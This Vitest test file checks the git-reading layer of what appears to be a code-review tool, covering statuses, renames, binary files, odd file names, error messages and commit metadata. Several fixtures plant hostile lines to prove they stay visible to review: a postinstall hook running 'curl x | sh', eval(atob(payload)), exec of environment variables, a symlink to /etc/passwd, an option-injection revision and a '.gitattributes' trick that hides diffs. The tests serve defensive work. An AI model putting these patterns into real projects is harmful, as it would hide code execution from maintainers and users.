import { mkdtempSync, rmSync, symlinkSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, describe, expect, it } from 'vitest';
import type { ChangedFile, ChangeSet } from '../../src/core/model.js';
import { currentBranch, GitError, loadGitChangeSet, loadGitCommits, loadGitReview, originRepository } from '../../src/io/git.js';
import { cleanupRepos, makeRepo, type TestRepo } from '../helpers/git-repo.js';

afterAll(cleanupRepos);

const text = (bytes: Uint8Array | null): string | null => (bytes === null ? null : Buffer.from(bytes).toString('utf8'));

function byPath(set: ChangeSet): Map<string, ChangedFile> {
  return new Map(set.files.map((f) => [f.path, f]));
}

async function gitError(promise: Promise<unknown>): Promise<GitError> {
  try {
    await promise;
  } catch (error) {
    expect(error).toBeInstanceOf(GitError);
    expect((error as Error).name).toBe('GitError');
    expect((error as Error).message).not.toContain('\n');
    return error as GitError;
  }
  throw new Error('expected a GitError');
}

/** main with a few files, then a `feature` branch (checked out). */
function repoWithFeature(): TestRepo {
  const repo = makeRepo();
  repo.write('keep.txt', 'one\ntwo\nthree\n');
  repo.write('edit.ts', 'const a = 1;\nconst b = 2;\nconst c = 3;\n');
  repo.write('gone.py', 'print("bye")\n');
  repo.write('docs/guide.md', '# Guide\n\n' + 'Some stable text that stays the same.\n'.repeat(20));
  repo.write('lib/util.js', 'module.exports = function util() {\n' + '  return 42;\n'.repeat(10) + '};\n');
  repo.commit('base');
  repo.branch('feature');
  return repo;
}

describe('loadGitChangeSet: statuses and lines', () => {
  it('reads added, modified and deleted files with head line numbers, sizes and contents', async () => {
    const repo = repoWithFeature();
    repo.write('edit.ts', 'const a = 1;\nconst b = exec(input);\nconst c = 3;\nconst d = 4;\n');
    repo.write('src/new.ts', 'export const x = 1;\nexport const y = 2;\n');
    repo.remove('gone.py');
    repo.commit('feature work');

    const set = await loadGitChangeSet({ repo: repo.dir, base: 'main', head: 'feature' });
    expect(set.base).toBe('main');
    expect(set.head).toBe('feature');
    const files = byPath(set);
    expect([...files.keys()].sort()).toEqual(['edit.ts', 'gone.py', 'src/new.ts']);
    expect(files.get('edit.ts')).toEqual({
      path: 'edit.ts',
      oldPath: null,
      status: 'modified',
      addedLines: [2, 4],
      deletedLineCount: 1,
      removedAfter: [1],
      binary: false,
      oldMode: null,
      newMode: null,
      size: 62,
      unavailable: null,
    });
    expect(files.get('src/new.ts')).toMatchObject({ status: 'added', addedLines: [1, 2], newMode: '100644', size: 40 });
    expect(files.get('gone.py')).toMatchObject({ status: 'deleted', addedLines: [], deletedLineCount: 1, oldMode: '100644', size: null });

    expect(text(await set.loadHead('edit.ts'))).toBe('const a = 1;\nconst b = exec(input);\nconst c = 3;\nconst d = 4;\n');
    expect(await set.loadHead('gone.py')).toBeNull();
    // Files outside the change are readable too (analyzers read manifests next to lockfiles).
    expect(text(await set.loadHead('keep.txt'))).toBe('one\ntwo\nthree\n');
    expect(await set.loadHead('missing.txt')).toBeNull();
    expect(await set.loadHead('docs')).toBeNull();
    expect(await set.loadHead('../keep.txt')).toBeNull();
    expect(await set.loadHead('./keep.txt')).toBeNull();
  });

  it('reads the base version of a file at the merge base, bounded in size, only when asked', async () => {
    const repo = repoWithFeature();
    repo.write('edit.ts', 'const a = 1;\nconst b = exec(input);\n');
    repo.move('lib/util.js', 'lib/helpers.js');
    repo.remove('gone.py');
    repo.commit('feature work');
    // A later commit on main is not the base the diff starts from.
    repo.checkout('main');
    repo.write('edit.ts', 'changed on main after the branch\n');
    repo.commit('main moves on');
    repo.checkout('feature');

    const set = await loadGitChangeSet({ repo: repo.dir, base: 'main', head: 'feature' });
    expect(set.loadBase).toBeDefined();
    const loadBase = set.loadBase!;
    expect(text(await loadBase('edit.ts'))).toBe('const a = 1;\nconst b = 2;\nconst c = 3;\n');
    expect(text(await loadBase('gone.py'))).toBe('print("bye")\n');
    expect(byPath(set).get('lib/helpers.js')).toMatchObject({ status: 'renamed', oldPath: 'lib/util.js' });
    expect(text(await loadBase('lib/util.js'))).toContain('function util()');
    expect(await loadBase('lib/helpers.js')).toBeNull();
    expect(await loadBase('src/none.ts')).toBeNull();
    expect(await loadBase('../keep.txt')).toBeNull();
    expect(await loadBase('docs')).toBeNull();
    expect(text(await loadBase('edit.ts', { maxBytes: 100 }))).toBe('const a = 1;\nconst b = 2;\nconst c = 3;\n');
    await expect(loadBase('edit.ts', { maxBytes: 10 })).rejects.toThrow('39 bytes, over the 10-byte limit');
  });

  it('reads renames with and without edits', async () => {
    const repo = repoWithFeature();
    repo.move('docs/guide.md', 'docs/handbook.md');
    repo.move('lib/util.js', 'scripts/postinstall.js');
    repo.write('scripts/postinstall.js', 'module.exports = function util() {\n' + '  return 42;\n'.repeat(10) + '  require("child_process").exec("curl x | sh");\n};\n');
    repo.commit('move things');

    const files = byPath(await loadGitChangeSet({ repo: repo.dir, base: 'main', head: 'HEAD' }));
    expect(files.get('docs/handbook.md')).toMatchObject({ status: 'renamed', oldPath: 'docs/guide.md', addedLines: [], deletedLineCount: 0 });
    expect(files.get('scripts/postinstall.js')).toMatchObject({ status: 'renamed', oldPath: 'lib/util.js', addedLines: [12], deletedLineCount: 0 });
  });

  it('reports a copy of an existing file as added with every line, so the copy is reviewed in full', async () => {
    const repo = repoWithFeature();
    repo.write('lib/util-copy.js', 'module.exports = function util() {\n' + '  return 42;\n'.repeat(10) + '};\n');
    repo.commit('copy');
    const files = byPath(await loadGitChangeSet({ repo: repo.dir, base: 'main', head: 'feature' }));
    expect(files.get('lib/util-copy.js')).toMatchObject({ status: 'added', oldPath: null, addedLines: Array.from({ length: 12 }, (_, i) => i + 1) });
  });

  it('marks binary files, with size and exact bytes', async () => {
    const repo = repoWithFeature();
    const png = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0xff, 0xfe]);
    repo.write('img/logo.png', png);
    repo.commit('logo');
    const set = await loadGitChangeSet({ repo: repo.dir, base: 'main', head: 'feature' });
    expect(set.files).toEqual([expect.objectContaining({ path: 'img/logo.png', status: 'added', binary: true, addedLines: [], size: png.length })]);
    expect(Buffer.from((await set.loadHead('img/logo.png'))!)).toEqual(png);
  });

  it('reads a mode change (chmod +x) without content change', async () => {
    const repo = repoWithFeature();
    repo.chmod('keep.txt', 0o755);
    repo.commit('make executable');
    const set = await loadGitChangeSet({ repo: repo.dir, base: 'main', head: 'feature' });
    expect(set.files).toEqual([
      expect.objectContaining({ path: 'keep.txt', status: 'modified', oldMode: '100644', newMode: '100755', addedLines: [], deletedLineCount: 0, size: 14 }),
    ]);
  });

  it('reads a file without a trailing newline and a CRLF file', async () => {
    const repo = repoWithFeature();
    repo.write('keep.txt', 'one\ntwo\nthree\nfour');
    repo.write('win.bat', 'echo one\r\necho two\r\n');
    repo.commit('line endings');
    const set = await loadGitChangeSet({ repo: repo.dir, base: 'main', head: 'feature' });
    const files = byPath(set);
    expect(files.get('keep.txt')).toMatchObject({ addedLines: [4], deletedLineCount: 0, unavailable: null });
    expect(files.get('win.bat')).toMatchObject({ status: 'added', addedLines: [1, 2], binary: false });
    expect(text(await set.loadHead('win.bat'))).toBe('echo one\r\necho two\r\n');
  });

  it('keeps Latin-1 bytes in content as they are', async () => {
    const repo = repoWithFeature();
    const latin1 = Buffer.from('caf\xe9 = "cr\xe8me"\nna\xefve\n', 'latin1');
    repo.write('menu.txt', latin1);
    repo.commit('latin-1 content');
    const set = await loadGitChangeSet({ repo: repo.dir, base: 'main', head: 'feature' });
    expect(set.files).toEqual([expect.objectContaining({ path: 'menu.txt', addedLines: [1, 2], binary: false, size: latin1.length })]);
    expect(Buffer.from((await set.loadHead('menu.txt'))!)).toEqual(latin1);
  });

  it('reads file names that are not UTF-8, and flags two that read the same once decoded', async () => {
    const repo = repoWithFeature();
    repo.write(Buffer.from('caf\xe9.txt', 'latin1'), 'latin-1 name\n');
    repo.commit('latin-1 name');
    let set = await loadGitChangeSet({ repo: repo.dir, base: 'main', head: 'feature' });
    expect(set.files).toEqual([expect.objectContaining({ path: 'caf\uFFFD.txt', status: 'added', addedLines: [1], unavailable: null })]);
    expect(text(await set.loadHead('caf\uFFFD.txt'))).toBe('latin-1 name\n');

    repo.write(Buffer.from('caf\xe8.txt', 'latin1'), 'hidden twin\n');
    repo.commit('twin');
    set = await loadGitChangeSet({ repo: repo.dir, base: 'main', head: 'feature' });
    expect(set.files.map((f) => f.path)).toEqual(['caf\uFFFD.txt', 'caf\uFFFD.txt']);
    expect(set.files.filter((f) => f.unavailable !== null)).toHaveLength(1);
    expect(set.files.find((f) => f.unavailable !== null)!.unavailable).toMatch(/not valid UTF-8/);
  });

  it('reads paths with spaces and Unicode', async () => {
    const repo = repoWithFeature();
    const name = 'dir with space/café ☕ "quoted"\ttab.ts';
    repo.write(name, 'export {};\n');
    repo.commit('odd names');
    const set = await loadGitChangeSet({ repo: repo.dir, base: 'main', head: 'feature' });
    expect(set.files).toEqual([expect.objectContaining({ path: name, status: 'added', addedLines: [1], size: 11 })]);
    expect(text(await set.loadHead(name))).toBe('export {};\n');
  });

  it('reads a change of type (file → symlink) as one modified file', async () => {
    const repo = repoWithFeature();
    repo.remove('keep.txt');
    symlinkSync('/etc/passwd', join(repo.dir, 'keep.txt'));
    repo.commit('symlink');
    const set = await loadGitChangeSet({ repo: repo.dir, base: 'main', head: 'feature' });
    expect(set.files).toEqual([expect.objectContaining({ path: 'keep.txt', status: 'modified', oldMode: '100644', newMode: '120000', addedLines: [1], deletedLineCount: 3 })]);
    expect(text(await set.loadHead('keep.txt'))).toBe('/etc/passwd');
  });

  it('returns no files when head has nothing beyond base', async () => {
    const repo = repoWithFeature();
    const set = await loadGitChangeSet({ repo: repo.dir, base: 'main', head: 'feature' });
    expect(set.files).toEqual([]);
  });
});

describe('loadGitChangeSet: base...head', () => {
  it('reviews against the merge base: changes made on base after branching do not appear', async () => {
    const repo = repoWithFeature();
    repo.write('feature.ts', 'export const feature = true;\n');
    repo.commit('feature');
    repo.checkout('main');
    repo.write('edit.ts', 'const a = 100;\nconst b = 2;\nconst c = 3;\n');
    repo.write('main-only.ts', 'export {};\n');
    repo.commit('main moves on');
    repo.checkout('feature');

    const set = await loadGitChangeSet({ repo: repo.dir, base: 'main', head: 'feature' });
    expect(set.files.map((f) => f.path)).toEqual(['feature.ts']);
    // The loader reads head, where edit.ts is still the old version.
    expect(text(await set.loadHead('edit.ts'))).toBe('const a = 1;\nconst b = 2;\nconst c = 3;\n');
  });

  it('leaves out what the feature branch merged in from base', async () => {
    const repo = repoWithFeature();
    repo.write('feature.ts', 'x\n');
    repo.commit('feature');
    repo.checkout('main');
    repo.write('main-only.ts', 'y\n');
    repo.commit('main');
    repo.checkout('feature');
    repo.git('merge', '-q', '--no-edit', 'main');
    expect(repo.git('rev-list', '--count', '--merges', 'HEAD')).toBe('1');
    const set = await loadGitChangeSet({ repo: repo.dir, base: 'main', head: 'feature' });
    expect(set.files.map((f) => f.path)).toEqual(['feature.ts']);
  });

  it('still reviews files that .gitattributes in the change declares binary', async () => {
    const repo = repoWithFeature();
    repo.write('.gitattributes', '* -diff\n');
    repo.write('edit.ts', 'const a = 1;\nconst b = eval(atob(payload));\nconst c = 3;\n');
    repo.write('evil.js', 'require("child_process").exec(process.env.CMD);\n');
    repo.write('real.bin', Buffer.from([0, 1, 2, 3]));
    repo.commit('hide the diff');
    const files = byPath(await loadGitChangeSet({ repo: repo.dir, base: 'main', head: 'feature' }));
    expect(files.get('edit.ts')).toMatchObject({ binary: false, addedLines: [2], deletedLineCount: 1 });
    expect(files.get('evil.js')).toMatchObject({ binary: false, addedLines: [1] });
    expect(files.get('.gitattributes')).toMatchObject({ binary: false, addedLines: [1] });
    expect(files.get('real.bin')).toMatchObject({ binary: true, addedLines: [] });
  });

  it('still reviews every one of many files declared binary, small ones read together and a large one alone', async () => {
    const repo = repoWithFeature();
    repo.write('.gitattributes', '* -diff\n');
    for (let i = 0; i < 300; i++) repo.write(`hidden/f${i}.js`, `const x${i} = ${i};\nrequire("child_process").exec(process.env.C${i});\n`);
    for (let i = 0; i < 20; i++) repo.write(`img/p${i}.bin`, Buffer.from([i, 0, 1, 2, 3]));
    // Over the size read whole: only its first bytes are read, and then git diffs it as text.
    repo.write('big.js', `${'// padding line of a generated file\n'.repeat(40_000)}eval(process.env.X);\n`);
    repo.write('edit.ts', 'const a = 1;\nconst b = eval(atob(payload));\nconst c = 3;\n');
    repo.commit('hide many diffs');
    const files = byPath(await loadGitChangeSet({ repo: repo.dir, base: 'main', head: 'feature' }));
    for (let i = 0; i < 300; i++) expect(files.get(`hidden/f${i}.js`)).toMatchObject({ binary: false, addedLines: [1, 2] });
    for (let i = 0; i < 20; i++) expect(files.get(`img/p${i}.bin`)).toMatchObject({ binary: true, addedLines: [] });
    expect(files.get('big.js')!.size).toBeGreaterThan(1024 * 1024);
    expect(files.get('big.js')).toMatchObject({ binary: false, addedLines: Array.from({ length: 40_001 }, (_, i) => i + 1) });
    expect(files.get('edit.ts')).toMatchObject({ binary: false, addedLines: [2], deletedLineCount: 1 });
  });

  it('gives the same result whatever the repository config says about diffs', async () => {
    const repo = repoWithFeature();
    repo.write('edit.ts', 'const a = 1;\n\nconst c = 3;\nconst b = 2;\n');
    repo.write('sub dir/é.ts', 'x\n');
    repo.move('docs/guide.md', 'docs/moved.md');
    repo.commit('work');
    const before = await loadGitChangeSet({ repo: repo.dir, base: 'main', head: 'feature' });
    for (const [key, value] of [
      ['diff.external', 'false'],
      ['color.diff', 'always'],
      ['color.ui', 'always'],
      ['diff.noprefix', 'true'],
      ['diff.mnemonicPrefix', 'true'],
      ['core.quotepath', 'false'],
      ['diff.relative', 'true'],
      ['diff.renames', 'false'],
      ['diff.suppressBlankEmpty', 'true'],
      ['diff.submodule', 'log'],
      ['diff.interHunkContext', '10'],
      ['diff.context', '8'],
      ['log.showSignature', 'true'],
    ]) {
      repo.git('config', key!, value!);
    }
    const after = await loadGitChangeSet({ repo: repo.dir, base: 'main', head: 'feature' });
    expect(after.files).toEqual(before.files);
    expect(before.files.map((f) => f.path).sort()).toEqual(['docs/moved.md', 'edit.ts', 'sub dir/é.ts']);
  });
});

describe('originRepository', () => {
  it('reads owner/name from a GitHub origin in its https and ssh forms, and nothing else', async () => {
    const repo = makeRepo();
    repo.write('a.txt', 'a\n');
    repo.commit('base');
    expect(await originRepository(repo.dir)).toBeNull();
    repo.git('remote', 'add', 'origin', 'https://github.com/nvm-sh/nvm.git');
    expect(await originRepository(repo.dir)).toBe('nvm-sh/nvm');
    repo.git('remote', 'set-url', 'origin', 'git@github.com:Acme/tool.js');
    expect(await originRepository(repo.dir)).toBe('Acme/tool.js');
    repo.git('remote', 'set-url', 'origin', 'https://gitlab.com/acme/tool.git');
    expect(await originRepository(repo.dir)).toBeNull();
  });
});

describe('loadGitChangeSet: errors', () => {
  const dirs: string[] = [];
  afterEach(() => {
    for (const dir of dirs.splice(0)) rmSync(dir, { recursive: true, force: true });
  });

  it('names an unknown revision and the repository', async () => {
    const repo = repoWithFeature();
    const error = await gitError(loadGitChangeSet({ repo: repo.dir, base: 'v9.9', head: 'feature' }));
    expect(error.message).toBe(`unknown revision: v9.9 (in ${repo.dir})`);
    const dash = await gitError(loadGitChangeSet({ repo: repo.dir, base: 'main', head: '--output=/tmp/x' }));
    expect(dash.message).toBe(`unknown revision: --output=/tmp/x (in ${repo.dir})`);
  });

  it('says when the directory is not a git repository, or does not exist', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'airlock-not-git-'));
    dirs.push(dir);
    expect((await gitError(loadGitChangeSet({ repo: dir, base: 'main', head: 'HEAD' }))).message).toBe(`not a git repository: ${dir}`);
    const missing = join(dir, 'nope');
    expect((await gitError(loadGitCommits({ repo: missing, base: 'main', head: 'HEAD' }))).message).toBe(`not a git repository: ${missing}`);
  });

  it('says when base and head share no history', async () => {
    const repo = repoWithFeature();
    repo.git('checkout', '-q', '--orphan', 'other');
    repo.write('unrelated.txt', 'x\n');
    repo.commit('unrelated root');
    const error = await gitError(loadGitChangeSet({ repo: repo.dir, base: 'main', head: 'other' }));
    expect(error.message).toBe('no merge base between main and other');
  });

  it('says when git is missing', async () => {
    const repo = repoWithFeature();
    const path = process.env.PATH;
    const empty = mkdtempSync(join(tmpdir(), 'airlock-empty-path-'));
    dirs.push(empty);
    process.env.PATH = empty;
    try {
      const error = await gitError(loadGitChangeSet({ repo: repo.dir, base: 'main', head: 'feature' }));
      expect(error.message).toBe('git is not installed or not on PATH');
    } finally {
      process.env.PATH = path;
    }
  });
});

describe('loadGitCommits', () => {
  it('lists the commits of base..head oldest first, with full messages, trailers and identities', async () => {
    const repo = repoWithFeature();
    repo.write('a.ts', '1\n');
    const first = repo.commit('Initial plan\n', {
      author: { name: 'copilot-swe-agent[bot]', email: '198982749+Copilot@users.noreply.github.com' },
      committer: { name: 'GitHub', email: 'noreply@github.com' },
    });
    repo.checkout('main');
    repo.write('main.ts', '1\n');
    repo.commit('on main only');
    repo.checkout('feature');
    repo.write('b.ts', '2\n');
    const message =
      'Add the thing\n\nLonger body with a line that looks like a separator:\n\x1e\n%H%x00 | --\n\n' +
      'Co-Authored-By: Claude <noreply@anthropic.com>\nClaude-Session: https://claude.ai/code/session_123\n';
    const second = repo.commit(message, { author: { name: 'Dev Human', email: 'dev@example.com' } });

    const commits = await loadGitCommits({ repo: repo.dir, base: 'main', head: 'feature' });
    expect(commits).toEqual([
      {
        sha: first,
        authorName: 'copilot-swe-agent[bot]',
        authorEmail: '198982749+Copilot@users.noreply.github.com',
        authorLogin: null,
        committerName: 'GitHub',
        committerEmail: 'noreply@github.com',
        committerLogin: null,
        message: 'Initial plan\n',
      },
      {
        sha: second,
        authorName: 'Dev Human',
        authorEmail: 'dev@example.com',
        authorLogin: null,
        committerName: 'Dev Human',
        committerEmail: 'dev@example.com',
        committerLogin: null,
        message,
      },
    ]);
  });

  it('returns [] when head adds no commit, and errors on an unknown revision', async () => {
    const repo = repoWithFeature();
    expect(await loadGitCommits({ repo: repo.dir, base: 'main', head: 'feature' })).toEqual([]);
    expect((await gitError(loadGitCommits({ repo: repo.dir, base: 'main', head: 'nope' }))).message).toBe(`unknown revision: nope (in ${repo.dir})`);
  });
});

describe('currentBranch', () => {
  it('names the branch of a branch name, of HEAD, and of a remote-tracking name; null otherwise', async () => {
    const repo = repoWithFeature();
    repo.branch('codex/fix-login');
    const sha = repo.commit('fix', { allowEmpty: true });
    expect(await currentBranch(repo.dir, 'feature')).toBe('feature');
    expect(await currentBranch(repo.dir, 'HEAD')).toBe('codex/fix-login');

    repo.git('remote', 'add', 'origin', 'https://example.invalid/repo.git');
    repo.git('update-ref', 'refs/remotes/origin/devin/123-task', sha);
    expect(await currentBranch(repo.dir, 'origin/devin/123-task')).toBe('devin/123-task');

    repo.git('tag', 'v1', sha);
    expect(await currentBranch(repo.dir, 'v1')).toBeNull();
    expect(await currentBranch(repo.dir, sha)).toBeNull();
    expect(await currentBranch(repo.dir, 'does-not-exist')).toBeNull();
    repo.checkout(sha);
    expect(await currentBranch(repo.dir, 'HEAD')).toBeNull();
  });
});

describe('loadGitReview', () => {
  it('reads the change, its commits and the branch exactly as the separate readers do', async () => {
    const repo = repoWithFeature();
    repo.write('edit.ts', 'const a = 1;\nconst b = exec(input);\n');
    repo.commit('feature work\n\nCo-authored-by: Claude <noreply@anthropic.com>');
    const range = { repo: repo.dir, base: 'main', head: 'feature' };
    const review = await loadGitReview(range);
    const [changeSet, commits, branch] = await Promise.all([loadGitChangeSet(range), loadGitCommits(range), currentBranch(repo.dir, 'feature')]);
    const { loadHead: _a, loadBase: _c, ...files } = review.changeSet;
    const { loadHead: _b, loadBase: _d, ...expected } = changeSet;
    expect(files).toEqual(expected);
    expect(text(await review.changeSet.loadHead('edit.ts'))).toBe('const a = 1;\nconst b = exec(input);\n');
    expect(review.commits).toEqual(commits);
    expect(review.commits).toHaveLength(1);
    expect(review.branch).toBe(branch);
    expect(review.branch).toBe('feature');
    expect((await loadGitReview(range, { branch: false })).branch).toBeNull();
  });

  it('fails with one line for a path that is not a repository or an unknown revision', async () => {
    const plain = mkdtempSync(join(tmpdir(), 'airlock-plain-'));
    expect((await gitError(loadGitReview({ repo: plain, base: 'main', head: 'HEAD' }))).message).toMatch(/^not a git repository: /);
    rmSync(plain, { recursive: true, force: true });
    const repo = repoWithFeature();
    expect((await gitError(loadGitReview({ repo: repo.dir, base: 'nope', head: 'feature' }))).message).toMatch(/^unknown revision: nope/);
  });
});
